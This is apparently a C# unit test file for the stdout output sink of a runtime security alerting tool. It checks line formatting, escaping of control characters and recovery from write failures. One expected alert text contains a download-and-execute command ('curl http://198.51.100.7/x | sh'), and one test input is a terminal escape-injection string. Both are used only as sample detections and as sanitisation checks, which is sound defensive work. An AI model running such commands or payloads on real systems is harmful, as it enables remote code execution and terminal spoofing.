using System.Text;
using Eyrie.Contracts;
using Eyrie.Platform;
using Eyrie.Sinks.Stdout;

namespace Eyrie.Sinks.Tests.Stdout;

public sealed class StdoutSinkTests
{
    private static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Writes_documents_as_lines() => Assert.Equal(
        "{\"n\":1}\n{ \"n\":2}\n", await WriteAsync(StdoutFormat.Json, An.Alert(document: "{\"n\":1}"), An.Alert(document: "{\n\"n\":2}")));

    [Fact]
    public async Task Writes_a_readable_line() => Assert.Equal(
        "2025-10-09T08:53:20.123456789Z  CRITICAL  Run shell in web server  shop/web-7d9c-x2x4z@worker-1  "
            + "containerd-shim(1201) > nginx(3312) > sh(4711) > curl(4722)  A web server ran a shell: sh -c \"curl http://198.51.100.7/x | sh\"\n",
        await WriteAsync(StdoutFormat.Text, An.FullAlert()));

    [Fact]
    public async Task Sends_no_escape_sequence_to_a_terminal()
    {
        var line = await WriteAsync(StdoutFormat.Text, An.HostileAlert("\u001b]0;owned\a\u009b2J\r\nfake line\u202e"));

        Assert.DoesNotContain(line[..^1], char.IsControl);
        Assert.DoesNotContain('\u202e', line);
        Assert.Contains("\\u{1b}]0;owned\\u{7}\\u{9b}2J\\r\\nfake line\\u{202e}", line, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Begins_on_a_line_of_its_own_after_it_was_broken_off()
    {
        using var output = new HalfALine();
        var sink = new StdoutSink(new(), output);
        Alert[] batch = [An.Alert(document: "{\"n\":1}")];

        await Assert.ThrowsAsync<PipelineException>(() => sink.WriteAsync(batch, Cancellation));
        await sink.WriteAsync(batch, Cancellation);
        await sink.WriteAsync(batch, Cancellation);

        Assert.Equal("{\"n\n{\"n\":1}\n{\"n\":1}\n", Encoding.UTF8.GetString(output.ToArray()));
    }

    private sealed class HalfALine : MemoryStream
    {
        private bool _failed;

        public override ValueTask WriteAsync(ReadOnlyMemory<byte> buffer, CancellationToken cancellationToken = default)
        {
            if (_failed)
            {
                return base.WriteAsync(buffer, cancellationToken);
            }

            _failed = true;
            Write(buffer.Span[..3]);
            throw new IOException("no space");
        }
    }

    [Fact]
    public async Task Fails_transiently_when_nobody_reads()
    {
        var sink = new StdoutSink(new(), new BrokenPipe());

        var failure = await Assert.ThrowsAsync<PipelineException>(() => sink.WriteAsync([An.Alert()], Cancellation));

        Assert.Equal(FailureKind.Transient, failure.Kind);
    }

    private static async Task<string> WriteAsync(StdoutFormat format, params Alert[] batch)
    {
        var output = new MemoryStream();
        Assert.Empty(await new StdoutSink(new() { Format = format }, output).WriteAsync(batch, Cancellation));
        return Encoding.UTF8.GetString(output.ToArray());
    }

    /// <summary>Fails as a pipe does whose reader is gone.</summary>
    private sealed class BrokenPipe : MemoryStream
    {
        public override ValueTask WriteAsync(ReadOnlyMemory<byte> buffer, CancellationToken cancellationToken = default) =>
            throw new IOException("Broken pipe");
    }
}
